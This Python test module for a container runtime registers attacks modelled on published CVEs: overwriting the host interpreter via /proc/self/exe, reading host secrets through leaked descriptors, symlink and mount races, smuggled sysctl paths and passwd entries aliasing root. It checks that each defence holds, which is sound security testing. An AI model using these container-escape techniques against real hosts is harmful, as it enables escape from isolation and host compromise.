"""Attacks on the executor, each with the defence that it must break on.

An attack is a function of a `Lab` that returns whether it reached what it must not.  `ATTACKS` holds them by the name
of the published case, or of what is attacked.  An executor that refuses (raises) has withstood.
"""

from __future__ import annotations

import os
import re
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from crio_native.errors import CrioError
from crio_native.oci.runtime import Process, UserRequest

from ..oci.conftest import CAPABILITIES, status_of
from ..waiting import wait_for
from .conftest import Lab
from .weaknesses import LEAK


class Attack(NamedTuple):
    name: str
    weakness: str
    act: Callable[[Lab], bool]

    def succeeds(self, lab: Lab) -> bool:
        try:
            return self.act(lab)
        except CrioError:
            return False


ATTACKS: list[Attack] = []
DETOUR = "PATH=" + ":".join(f"/no/such/directory/{number}" for number in range(3000)) + ":/bin"
"""An environment that keeps an exec busy for a while, looking for its command."""


def attack(name: str, weakness: str) -> Callable[[Callable[[Lab], bool]], Callable[[Lab], bool]]:
    def register(act: Callable[[Lab], bool]) -> Callable[[Lab], bool]:
        ATTACKS.append(Attack(f"{name} {act.__name__}", weakness, act))
        return act

    return register


# -- the host's programs -----------------------------------------------------------------------------------------


@attack("CVE-2019-5736", "writable_interpreter")
def overwrite_the_interpreter(lab: Lab) -> bool:
    """The entrypoint is /proc/self/exe, the image's dynamic linker is the attacker's: it opens the interpreter, waits
    until nothing runs it, and writes."""
    interpreter = lab.interpreter.read_bytes()
    found = re.search(rb"/lib[\w/]*/(ld-[\w.-]+)\0", interpreter)
    assert found, "the interpreter is linked statically"
    linker = lab.root / found[0].strip(b"/\0").decode()
    linker.parent.mkdir(parents=True, exist_ok=True)
    linker.write_bytes((lab.tools / "loader").read_bytes())
    linker.chmod(0o755)
    (lab.root / "hold").write_text(
        "echo holding; until [ -e /go ]; do sleep 0.01; done\n"
        "for try in 1 2 3 4 5 6 7 8 9 10; do\n"
        "  for n in 3 4 5 6 7 8 9; do echo evil 2>/dev/null >>/proc/self/fd/$n; done; sleep 0.05; done\n"
    )
    container = lab.create(lab.spec("/proc/self/exe")).start()
    wait_for(lambda: "holding" in container.output(), "the attacker's linker")
    lab.launchers.stop()
    (lab.root / "go").touch()
    container.wait()
    return lab.interpreter.read_bytes() != interpreter


@attack("CVE-2019-5736", "dumpable")
def look_into_an_exec(lab: Lab) -> bool:
    """A process of the container watches for an exec on its way in, which is a program of the host until it execs; the
    image's PATH keeps it busy for a while."""
    spec = lab.spec("hostile", "watch", "2")
    container = lab.create(spec).start()
    wait_for(lambda: "watching" in container.output(), "the attacker")
    while "caught" not in container.output() and lab.runtime.is_alive(container.process):
        try:
            container.exec("true", env=[DETOUR])
        except CrioError:
            break  # the container has ended meanwhile
    return "caught" in container.output()


@attack("CAP_SYS_PTRACE", "early_appearance")
def trace_an_exec(lab: Lab) -> bool:
    """A tracer makes an exec on its way in do what that is able to, and what shares its memory."""
    spec = lab.spec("hostile", "trace")
    for kind in ("bounding", "effective", "permitted"):
        spec["process"]["capabilities"][kind] = [*CAPABILITIES, "CAP_SYS_PTRACE"]
    container = lab.create(spec).start()
    wait_for(lambda: "tracing" in container.output(), "the attacker")
    for _ in range(40):
        container.exec("true", env=[DETOUR])
        if "stronger" in container.output():
            return True
    return False


@attack("pid reuse", "any_process")
def exec_into_another_process(lab: Lab) -> bool:
    """The container has ended, and a process of the host has its pid by now."""
    with subprocess.Popen(["unshare", "--uts", "sleep", "100"]) as neighbour:
        wait_for(lambda: Path(f"/proc/{neighbour.pid}/comm").read_text() == "sleep\n", "a process to exec into")
        try:
            container = lab.run("true")
            container.process = Process(neighbour.pid, 1)
            _, text = container.exec("/bin/cat", str(lab.outside / "secret"))
            return "secret" in text
        finally:
            neighbour.kill()


# -- descriptors and directories ---------------------------------------------------------------------------------


@attack("CVE-2024-21626", "leaked_descriptor")
def read_through_a_descriptor(lab: Lab) -> bool:
    script = f"for n in /proc/self/fd/*; do cat $n{lab.outside}/secret; done"
    return "the host's secret" in lab.output_of("sh", "-c", script)


@attack("CVE-2024-21626", "unchecked_directory")
def start_in_a_descriptor(lab: Lab) -> bool:
    for number in (*range(3, 16), LEAK):
        spec = lab.spec("cat", str(lab.outside / "secret").lstrip("/"))
        spec["process"]["cwd"] = f"/proc/self/fd/{number}"
        container = lab.try_create(spec)
        if container:
            container.start().wait()
            if "secret" in container.output():
                return True
    return False


@attack("standard streams", "without reopen_null")
def reach_the_hosts_null_device(lab: Lab) -> bool:
    """Through a descriptor of it root inside could change its mode and owner."""
    inside, own = lab.output_of("stat", "-L", "-c", "%d:%i", "/proc/self/fd/0", "/dev/null").split()
    return inside != own


# -- symbolic links ----------------------------------------------------------------------------------------------


@attack("CVE-2021-30465, CVE-2024-45310", "check_then_use")
def swap_a_mounts_target(lab: Lab) -> bool:
    """A volume's owner exchanges a directory and a link without end while containers mount below it."""
    volume = lab.directory / "volume"
    (volume / "target").mkdir(parents=True)
    (volume / "link").symlink_to(lab.outside)
    with subprocess.Popen([lab.tools / "hostile", "swap", volume / "target", volume / "link"]) as swapper:
        try:
            for number in range(60):
                spec = lab.spec("true")
                for source, target in ((volume, "/volume"), (lab.directory, f"/volume/target/made{number}")):
                    mount = {"type": "bind", "source": str(source), "destination": target, "options": ["rbind"]}
                    spec["mounts"].append(mount)
                lab.try_create(spec)
                if lab.made_outside():
                    return True
        finally:
            swapper.kill()
    return bool(lab.made_outside())


@attack("CVE-2026-41579, CVE-2026-47766", "paths_as_text")
def make_devices_through_a_link(lab: Lab) -> bool:
    (lab.root / "dev").rmdir()
    (lab.root / "dev").symlink_to(lab.outside)
    lab.try_create(lab.bare_spec("true"))
    return bool(lab.made_outside())


def mount_through(lab: Lab, link: str) -> bool:
    (lab.root / "data").symlink_to(link)
    spec = lab.spec("true")
    source = str(lab.directory)
    spec["mounts"].append({"destination": "/data/deep", "type": "bind", "source": source, "options": ["rbind"]})
    lab.try_create(spec)
    return bool(lab.made_outside())


@attack("CVE-2021-30465", "paths_as_text")
def mount_through_an_absolute_link(lab: Lab) -> bool:
    return mount_through(lab, str(lab.outside))


@attack("CVE-2021-30465", "paths_as_text")
def mount_through_a_climbing_link(lab: Lab) -> bool:
    return mount_through(lab, "../" * 30 + str(lab.outside).lstrip("/"))


@attack("CVE-2019-19921", "paths_as_text")
def mount_through_a_magic_link(lab: Lab) -> bool:
    """The container's procfs is mounted by then; init's root is still the host's."""
    return mount_through(lab, f"/proc/self/root{lab.outside}")


@attack("CVE-2019-19921, CVE-2023-27561", "mounts_into_proc")
def cover_a_part_of_proc(lab: Lab) -> bool:
    """Labels and settings would go to files of the attacker's choice."""
    (lab.root / "data").symlink_to("/proc")
    spec = lab.spec("grep", "/proc/sys", "/proc/self/mountinfo")
    del spec["linux"]["readonlyPaths"]
    spec["mounts"].append({"destination": "/data/sys", "type": "tmpfs", "source": "evil"})
    return "tmpfs evil" in lab.output_of(spec=spec)


@attack("CVE-2024-21626, CVE-2024-45310", "paths_as_text")
def make_the_working_directory_outside(lab: Lab) -> bool:
    (lab.root / "work").symlink_to(lab.outside)
    spec = lab.spec("true")
    spec["process"]["cwd"] = "/work/made"
    lab.try_create(spec)
    return bool(lab.made_outside())


@attack("CVE-2025-4437, CVE-2024-5154", "paths_as_text")
def users_of_another_file(lab: Lab) -> bool:
    """/etc/passwd is a link to a file of the host."""
    (lab.outside / "secret").write_text("spy:x:4321:4321::/:/bin/sh\n")
    (lab.root / "etc/passwd").unlink()
    (lab.root / "etc/passwd").symlink_to(lab.outside / "secret")
    return "4321" in lab.output_of("id", "-u", user=UserRequest("spy"))


# -- terminals, devices, masks -----------------------------------------------------------------------------------


@attack("CVE-2025-52565", "paths_as_text")
def take_a_terminal_of_the_host(lab: Lab) -> bool:
    """The image's /dev/pts/ptmx is a link; what it leads to would make the terminal."""
    (lab.root / "dev/pts").mkdir()
    (lab.root / "dev/pts/ptmx").symlink_to("/dev/pts/ptmx")
    spec = lab.bare_spec("sleep", "100")
    spec["process"]["terminal"] = True
    container = lab.create(spec)
    return os.stat(f"/proc/{container.process.pid}/fd/0").st_dev == os.stat("/dev/pts").st_dev


@attack("CVE-2025-31133", "unproven_null")
def replace_the_null_device(lab: Lab) -> bool:
    """What the image calls /dev/null would be mounted over the masked files."""
    (lab.root / "etc/evil").write_text("evil\n")
    (lab.root / "dev/null").symlink_to("/etc/evil")
    spec = lab.bare_spec("cat", "/proc/keys")
    spec["linux"]["maskedPaths"] = ["/proc/keys"]
    return "evil" in lab.output_of(spec=spec)


@attack("masked paths", "without mask_paths")
def read_a_masked_file(lab: Lab) -> bool:
    spec = lab.spec("cat", "/proc/uptime")
    spec["linux"]["maskedPaths"] = ["/proc/uptime"]
    return lab.output_of(spec=spec) != ""


@attack("read-only paths", "without read_only_paths")
def change_a_kernel_setting(lab: Lab) -> bool:
    script = "echo 4242 >/proc/sys/kernel/msgmax; cat /proc/sys/kernel/msgmax"  # of its own IPC namespace
    return "4242" in lab.output_of("sh", "-c", script)


@attack("CVE-2025-52881", "late_sysctls")
def redirect_a_write_to_proc(lab: Lab) -> bool:
    """The image's /proc leads to files of its own."""
    fake = lab.root / "fake/sys/kernel"
    fake.mkdir(parents=True)
    (fake / "msgmax").write_text("untouched")
    (lab.root / "proc").rmdir()
    (lab.root / "proc").symlink_to("/fake")
    spec = lab.spec("true")
    spec["mounts"] = [mount for mount in spec["mounts"] if mount["type"] != "proc"]
    del spec["linux"]["readonlyPaths"]
    spec["linux"]["sysctl"] = {"kernel.msgmax": "9000"}
    lab.try_create(spec)
    return (fake / "msgmax").read_text() != "untouched"


@attack("CVE-2023-25809", "writable_cgroups")
def make_a_cgroup(lab: Lab) -> bool:
    spec = lab.spec("sh", "-c", "for d in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/evil && echo made $d; done")
    spec["mounts"].append(
        {"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup", "options": ["ro", "nosuid"]}
    )
    spec["linux"]["cgroupsPath"] = f"/crio-native-attack-{os.getpid()}"
    return "made" in lab.output_of(spec=spec)


@attack("CVE-2025-47291", "without join_cgroup")
def live_outside_its_cgroup(lab: Lab) -> bool:
    path = f"/crio-native-attack-{os.getpid()}"
    spec = lab.spec()
    spec["linux"] |= {"cgroupsPath": path, "resources": {"pids": {"limit": 5}}}
    container = lab.create(spec)
    lines = Path(f"/proc/{container.process.pid}/cgroup").read_text().splitlines()
    where = dict(line.split(":", 2)[1:] for line in lines)
    return where.get("pids", where[""]) != path


# -- settings of the node ----------------------------------------------------------------------------------------


def set_for_the_node(lab: Lab, name: str, file: Path, namespaces: list[dict[str, str]]) -> bool:
    """Whether a harmless number of the node can be changed; it is put back."""
    before = file.read_text()
    spec = lab.spec("true")
    spec["linux"]["namespaces"] = namespaces
    del spec["hostname"]
    spec["linux"]["sysctl"] = {name: str(int(before) + 1)}
    try:
        lab.try_create(spec)
        return file.read_text() != before
    finally:
        file.write_text(before)


@attack("CVE-2022-0811", "unchecked_config")
def smuggle_a_setting(lab: Lab) -> bool:
    everything = [{"type": kind} for kind in ("pid", "network", "ipc", "uts", "mount")]
    return set_for_the_node(lab, "net/../vm/stat_interval", Path("/proc/sys/vm/stat_interval"), everything)


@attack("CVE-2022-0532", "unchecked_config")
def set_the_hosts_network(lab: Lab) -> bool:
    file = Path("/proc/sys/net/ipv4/tcp_probe_interval")
    return set_for_the_node(lab, "net.ipv4.tcp_probe_interval", file, [{"type": "mount"}])


# -- users and privileges ----------------------------------------------------------------------------------------


@attack("CVE-2022-29162, CVE-2022-27650, CVE-2022-27652", "inheritable_capabilities")
def inherit_a_capability(lab: Lab) -> bool:
    """A file with an inheritable capability gives it to a user whose process has it inheritable."""
    (lab.root / "caps").mkdir()
    (lab.root / "caps/cat").write_bytes((lab.root / "bin/busybox").read_bytes())
    (lab.root / "caps/cat").chmod(0o755)
    override = 1 << 1  # CAP_DAC_OVERRIDE
    os.setxattr(lab.root / "caps/cat", "security.capability", struct.pack("<5I", 0x02000001, 0, override, 0, 0))
    (lab.root / "shadow").write_text("root's own")
    (lab.root / "shadow").chmod(0o600)
    spec = lab.spec("/caps/cat", "/shadow")
    spec["process"] |= {"user": {"uid": 1000, "gid": 1000}, "noNewPrivileges": False}
    return "root's own" in lab.output_of(spec=spec)


@attack("bounding set", "without limit_bounding_set")
def gain_capabilities_by_exec(lab: Lab) -> bool:
    """Root that executes anything gets all of the bounding set."""
    spec = lab.spec("cat", "/proc/self/status")
    status = status_of(lab.output_of(spec=spec))
    return int(status["CapBnd"], 16).bit_count() > len(CAPABILITIES)


@attack("no_new_privs", "without no_new_privileges")
def become_root_by_a_file(lab: Lab) -> bool:
    (lab.root / "bin/hostile").chmod(0o4755)
    spec = lab.spec("hostile", "euid")
    spec["process"] |= {"user": {"uid": 1000, "gid": 1000}, "noNewPrivileges": True}
    return "euid 0" in lab.output_of(spec=spec)


@attack("seccomp", "without seccomp")
def call_what_is_filtered(lab: Lab) -> bool:
    spec = lab.spec("mkdir", "/tmp/made")
    rule = {"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO"}
    spec["linux"]["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [rule]}
    lab.run(spec=spec)
    return (lab.root / "tmp/made").exists()


@attack("CVE-2024-40635, CVE-2026-46680", "wrapping_numbers")
def wrap_around_to_root(lab: Lab) -> bool:
    return "uid=0" in lab.output_of("id", user=UserRequest("4294967296"))


@attack("numeric names", "names_before_numbers")
def name_root_by_a_number(lab: Lab) -> bool:
    """The image's root is called 1000, and its group 2000: a check of the number alone lets it pass."""
    with (lab.root / "etc/passwd").open("a") as passwd, (lab.root / "etc/group").open("a") as group:
        passwd.write("1000:x:0:0:evil:/root:/bin/sh\n")
        group.write("2000:x:0:\n")
    return "=0(" in lab.output_of("id", user=UserRequest("1000", "2000"))


@attack("CVE-2025-4437, CVE-2026-47262", "unbounded_files")
def fill_the_memory_with_users(lab: Lab) -> bool:
    """A file larger than any real one is read to its end."""
    with (lab.root / "etc/passwd").open("ab") as file:
        file.truncate(8 << 20)
        file.seek(0, os.SEEK_END)
        file.write(b"\nlast:x:77:77::/:/bin/sh\n")
    return "77" in lab.output_of("id", "-u", user=UserRequest("last"))


@attack("CVE-2022-2995, CVE-2023-25173", "forgotten_group")
def leave_the_primary_group(lab: Lab) -> bool:
    """A file that denies its group would let in who leaves that group for another."""
    status = status_of(lab.output_of("cat", "/proc/self/status", user=UserRequest("web", "extra", [7])))
    return "99" not in status["Groups"].split()
